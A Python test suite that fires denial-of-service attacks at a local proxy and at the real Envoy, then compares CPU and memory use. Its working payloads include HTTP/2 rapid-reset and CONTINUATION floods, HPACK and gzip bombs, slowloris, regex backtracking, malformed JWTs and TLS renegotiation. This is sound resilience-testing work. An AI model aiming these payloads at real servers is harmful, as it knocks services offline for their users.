"""Attacks on our proxy and on the real Envoy, one after the other with the same configuration: ours may cost no more processor time and no more
memory than Envoy's, and serves the next client as if nothing had been."""
import base64
import functools
import gzip
import http.server
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import BIN, end, eventually, free_port  # noqa: E402
from differential_rig import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ENVOY, HEADERS, PING, PREFACE, RESET, SETTINGS, TYPES, WINDOW, address,
                               # noqa: E402
                              fields_block, frame)

TICKS = os.sysconf("SC_CLK_TCK")
FIELDS = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"a.test")]
GET = b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"
# What the measuring itself may be off by.
CPU_NOISE_SECONDS = 0.08
KEY = {"kty": "EC", "kid": "k", "crv": "P-256", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU", "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}
proxies, app, folder = [], None, None


class App(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self):
        size = 8 << 20 if self.path.startswith("/big") else 5
        left = int(self.headers.get("content-length", 0))
        while left > 0:
            left -= len(self.rfile.read(min(left, 65536)) or b"x" * left)
        self.send_response(200)
        self.send_header("content-length", str(size))
        self.end_headers()
        try:
            for _ in range(max(1, size >> 16)):
                self.wfile.write(b"x" * min(size, 65536))
        except OSError:
            self.close_connection = True

    do_GET = do_POST = answer

    def log_message(self, *_):
        pass


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 256

    def handle_error(self, *_):
        """Clients of this test leave when they like."""


def configuration(port, tls_port, upstream, chain, key):
    def typed(name, kind, **more):
        return {"name": name, "typed_config": {"@type": f"{TYPES}.filters.{kind}", **more}}
    regex = {"match": {"safe_regex": {"regex": "/re/(a+)+(a|b|ab)*(c+)*d$"}}, "direct_response": {"status": 204}}
    filters = [
        typed("jwt", "http.jwt_authn.v3.JwtAuthentication", providers={"p": {"issuer": "i", "local_jwks": {"inline_string": json.dumps({"keys": [KEY]})}}},
              rules=[{"match": {"prefix": "/jwt"}, "requires": {"provider_name": "p"}}]),
        typed("gunzip", "http.decompressor.v3.Decompressor", decompressor_library={"name": "g", "typed_config": {
            "@type": f"{TYPES}.compression.gzip.decompressor.v3.Gzip"}}),
        typed("router", "http.router.v3.Router")]
    manager = typed("http", "network.http_connection_manager.v3.HttpConnectionManager", stat_prefix="a", codec_type="AUTO",
                    request_headers_timeout="1s", stream_idle_timeout="5s", http2_protocol_options={"max_concurrent_streams": 100},
                    route_config={"virtual_hosts": [{"name": "all", "domains": ["*"], "routes": [
                        regex, {"match": {"prefix": "/"}, "route": {"cluster": "app", "timeout": "20s"}}]}]}, http_filters=filters)
    tls = {"name": "tls", "typed_config": {"@type": f"{TYPES}.transport_sockets.tls.v3.DownstreamTlsContext", "common_tls_context": {
        "alpn_protocols": ["h2", "http/1.1"], "tls_certificates": [{"certificate_chain": {"filename": chain}, "private_key": {"filename": key}}]}}}
    return {"node": {"id": "a", "cluster": "a"}, "static_resources": {
        "listeners": [{"name": "plain", "address": address(port), "per_connection_buffer_limit_bytes": 32768, "filter_chains": [{"filters": [manager]}]},
                      {"name": "tls", "address": address(tls_port), "per_connection_buffer_limit_bytes": 32768, "filter_chains": [
                          {"filters": [manager], "transport_socket": tls, "transport_socket_connect_timeout": "2s"}]}],
        "clusters": [{"name": "app", "type": "STATIC", "connect_timeout": "5s", "per_connection_buffer_limit_bytes": 32768, "load_assignment": {
            "cluster_name": "app", "endpoints": [{"lb_endpoints": [{"endpoint": {"address": address(upstream)}}]}]}}]}}


class Proxy:
    def __init__(self, name, binary):
        self.name, self.port, self.tls_port = name, free_port(), free_port()
        path = os.path.join(folder.name, f"{name}.json")
        with open(path, "w") as out:
            json.dump(configuration(self.port, self.tls_port, app.server_address[1], os.path.join(folder.name, "chain.pem"),
                                    os.path.join(folder.name, "key.pem")), out)
        self.log = open(os.path.join(folder.name, f"{name}.log"), "wb")
        self.process = subprocess.Popen([binary, "-c", path, "--concurrency", "1", "--disable-hot-restart", "-l", "error"], stdout=self.log,
                                        stderr=self.log)
        eventually(self.serves, what=f"{name} serves")
        for _ in range(20):
            self.serves()

    def serves(self):
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as sock:
            sock.sendall(GET)
            return sock.recv(100).startswith(b"HTTP/1.1 200")

    def cpu(self):
        fields = open(f"/proc/{self.process.pid}/stat").read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / TICKS

    def memory(self, what):
        return int(re.search(rf"{what}:\s+(\d+)", open(f"/proc/{self.process.pid}/status").read()).group(1))

    def measure(self, attack):
        with open(f"/proc/{self.process.pid}/clear_refs", "w") as refs:
            refs.write("5")  # The peak starts anew.
        cpu = self.cpu()
        attack(self)
        if self.process.poll() is not None:
            raise AssertionError(f"{self.name} ended: exit {self.process.returncode}")
        eventually(self.serves, limit=20, what=f"{self.name} serves after the attack")
        return self.cpu() - cpu, self.memory("VmHWM")

    def close(self):
        end(self.process)
        self.log.close()


def setup():
    global app, folder
    if not os.environ.get("LATEEN_PEERS_RUN"):
        raise unittest.SkipTest("takes minutes and a quiet machine: ./dev peers runs it")
    if not os.path.exists(ENVOY):
        raise unittest.SkipTest("the real Envoy is not on this machine (tools/peers/build.sh)")
    folder = tempfile.TemporaryDirectory(prefix="lateen-attack-")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout",
                    os.path.join(folder.name, "key.pem"), "-out", os.path.join(folder.name, "chain.pem"), "-days", "2", "-subj", "/CN=localhost"],
                   check=True, capture_output=True)
    app = Server(("127.0.0.1", 0), App)
    threading.Thread(target=app.serve_forever, daemon=True).start()
    proxies.append(Proxy("ours", os.path.join(BIN, "lateen-proxy")))
    proxies.append(Proxy("envoy", ENVOY))


def teardown():
    for proxy in proxies:
        proxy.close()
    if app:
        app.shutdown()
    if folder:
        folder.cleanup()


def attack(attacks):
    """Makes a test of what one proxy is attacked with: both are measured, and ours may cost at most Envoy's."""
    return functools.wraps(attacks)(lambda: compare(attacks))


def compare(attack):
    ours, envoy = [proxy.measure(attack) for proxy in proxies]
    line = f"{attack.__name__}: cpu {ours[0]:.2f} s (envoy {envoy[0]:.2f}), peak memory {ours[1]} kB (envoy {envoy[1]})"
    print(line, flush=True)
    if ours[0] > envoy[0] * 1.1 + CPU_NOISE_SECONDS or ours[1] > envoy[1]:
        raise AssertionError(line)


def throw(proxy, data, limit=5.0, port=None):
    """Sends until taken or refused; reads away what comes."""
    with socket.create_connection(("127.0.0.1", port or proxy.port), timeout=limit) as sock:
        threading.Thread(target=drain, args=(sock,), daemon=True).start()
        try:
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass


def drain(sock):
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


def head(stream, more=(), flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, fields_block(FIELDS + list(more)))


HELLO = PREFACE + frame(SETTINGS, 0, 0)


@attack
def test_rapid_reset(proxy):
    flood = b"".join(head(2 * n + 1) + frame(RESET, 0, 2 * n + 1, b"\0\0\0\x08") for n in range(5000))
    for _ in range(10):
        throw(proxy, HELLO + flood)


@attack
def test_continuation_flood(proxy):
    piece = b"".join(frame(CONTINUATION, 0, 1, fields_block([(b"x-%d" % n, b"v" * 100)])) for n in range(20000))
    for _ in range(5):
        throw(proxy, HELLO + head(1, flags=END_STREAM) + piece)


@attack
def test_ping_flood(proxy):
    for _ in range(5):
        throw(proxy, HELLO + frame(PING, 0, 0, b"12345678") * 50000)


@attack
def test_settings_flood(proxy):
    for _ in range(5):
        throw(proxy, HELLO + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\1" + b"\0\4\0\0\xff\xff") * 30000)


@attack
def test_empty_frames(proxy):
    for _ in range(5):
        throw(proxy, HELLO + head(1, flags=END_HEADERS) + frame(DATA, 0, 1) * 50000)


@attack
def test_window_updates(proxy):
    for _ in range(5):
        throw(proxy, HELLO + frame(WINDOW, 0, 0, b"\0\0\0\1") * 50000)


@attack
def test_hpack_bomb(proxy):
    bomb = b"\x40\x01a\x7f\xb9\x16" + b"v" * 3000 + b"\xbe" * 12000
    for n in range(20):
        throw(proxy, HELLO + frame(HEADERS, END_STREAM | END_HEADERS, 1, fields_block(FIELDS) + bomb))


@attack
def test_made_you_reset(proxy):
    flood = b"".join(head(2 * n + 1) + frame(WINDOW, 0, 2 * n + 1, b"\0\0\0\0") for n in range(5000))
    for _ in range(10):
        throw(proxy, HELLO + flood)


@attack
def test_window_zero(proxy):
    """Big answers wanted on a hundred streams, none taken."""
    settings = frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    big = [(n, v if n != b":path" else b"/big") for n, v in FIELDS]
    socks = []
    for _ in range(4):
        sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=5)
        sock.sendall(PREFACE + settings + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, fields_block(big)) for n in range(50)))
        socks.append(sock)
    eventually(lambda: count_waits(1.0), limit=3)
    for sock in socks:
        sock.close()


def count_waits(pause):
    threading.Event().wait(pause)
    return True


@attack
def test_slow_read(proxy):
    socks = []
    for _ in range(60):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.connect(("127.0.0.1", proxy.port))
        sock.sendall(b"GET /big HTTP/1.1\r\nHost: a.test\r\n\r\n")
        socks.append(sock)
    count_waits(2.0)
    for sock in socks:
        sock.close()


@attack
def test_slowloris(proxy):
    """Heads that never end: each connection is gone soon after the limit of a second."""
    socks = [socket.create_connection(("127.0.0.1", proxy.port), timeout=10) for _ in range(300)]
    for sock in socks:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: a.te")
    for sock in socks:
        drain(sock)
        sock.close()


@attack
def test_huge_headers(proxy):
    for _ in range(20):
        throw(proxy, b"GET / HTTP/1.1\r\nHost: a.test\r\nx: " + b"v" * (1 << 20) + b"\r\n\r\n")


@attack
def test_many_headers(proxy):
    for _ in range(20):
        throw(proxy, b"GET / HTTP/1.1\r\nHost: a.test\r\n" + b"".join(b"x-%d: v\r\n" % n for n in range(20000)) + b"\r\n")


@attack
def test_zip_bomb(proxy):
    bomb = gzip.compress(b"\0" * (64 << 20))
    for _ in range(3):
        throw(proxy, b"POST / HTTP/1.1\r\nHost: a.test\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(bomb) + bomb)


@attack
def test_continue_abuse(proxy):
    socks = []
    for _ in range(200):
        sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=5)
        sock.sendall(b"POST / HTTP/1.1\r\nHost: a.test\r\nExpect: 100-continue\r\nContent-Length: 1000000\r\n\r\n")
        socks.append(sock)
    count_waits(0.5)
    for sock in socks:
        sock.close()


@attack
def test_connection_flood(proxy):
    socks = [socket.create_connection(("127.0.0.1", proxy.port), timeout=10) for _ in range(3000)]
    for sock in socks:
        sock.close()


@attack
def test_idle_connections(proxy):
    socks = [socket.create_connection(("127.0.0.1", proxy.port), timeout=10) for _ in range(500)]
    for sock in socks:
        sock.sendall(GET)
    for sock in socks:
        sock.recv(1000)
    for sock in socks:
        sock.close()


@attack
def test_backtracking_regexp(proxy):
    throw(proxy, b"".join(b"GET /re/%s HTTP/1.1\r\nHost: a.test\r\n\r\n" % (b"ab" * 1500) for _ in range(50)))


@attack
def test_tokens_that_lie(proxy):
    def part(text):
        return base64.urlsafe_b64encode(text).rstrip(b"=")
    good = part(b'{"alg":"ES256","kid":"k"}')
    deep = part(b'{"iss":"i","a":' + b"[" * 15000 + b"]" * 15000 + b"}")
    tokens = [part(b'{"alg":"none"}') + b"." + part(b'{"iss":"i"}') + b".", good + b"." + deep + b"." + part(b"x" * 64),
              part(b'{"alg":"ES256","kid":"' + b"k" * 30000 + b'"}') + b"." + part(b'{"iss":"i"}') + b"." + part(b"x" * 64),
              part(b'{"alg":"HS256","kid":"k"}') + b"." + part(b'{"iss":"i"}') + b"." + part(b"x" * 32)]
    for token in tokens:
        for _ in range(20):
            throw(proxy, b"GET /jwt HTTP/1.1\r\nHost: a.test\r\nAuthorization: Bearer " + token + b"\r\n\r\n")


@attack
def test_pipelined_and_unread(proxy):
    sock = socket.create_connection(("127.0.0.1", proxy.port), timeout=2)
    try:
        sock.sendall(b"GET /re/ad HTTP/1.1\r\nHost: a.test\r\n\r\n" * 100000)
    except OSError:
        pass
    sock.close()


@attack
def test_chunks_of_a_byte(proxy):
    for _ in range(5):
        throw(proxy, b"POST / HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1;" + b"e" * 1000 + b"\r\nx\r\n" +
              b"1;eeeeeeeeeeeeeeee\r\nx\r\n" * 100000)


@attack
def test_handshakes(proxy):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for _ in range(200):
        with socket.create_connection(("127.0.0.1", proxy.tls_port), timeout=10) as sock, context.wrap_socket(sock, server_hostname="a" * 60):
            pass


@attack
def test_handshakes_that_stall(proxy):
    hello = bytes.fromhex("1603010200010001fc0303")
    socks = [socket.create_connection(("127.0.0.1", proxy.tls_port), timeout=10) for _ in range(300)]
    for sock in socks:
        sock.sendall(hello)
    for sock in socks:
        drain(sock)
        sock.close()


@attack
def test_renegotiation(proxy):
    """TLS 1.2 clients that ask for handshake after handshake on one connection."""
    for _ in range(5):
        subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{proxy.tls_port}", "-tls1_2", "-legacy_renegotiation"], input=b"R\n" * 20,
                       capture_output=True, timeout=30)


@attack
def test_tls_garbage(proxy):
    for _ in range(50):
        throw(proxy, b"\x16\x03\x01\x40\x00" + os.urandom(1 << 14), port=proxy.tls_port)


@attack
def test_grpc_lengths(proxy):
    """Messages that say to be of four gigabytes."""
    grpc = [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    for _ in range(50):
        throw(proxy, HELLO + head(1, grpc, END_HEADERS) + frame(DATA, END_STREAM, 1, b"\0" + struct.pack(">I", 0xffffffff) + b"x" * 1000))
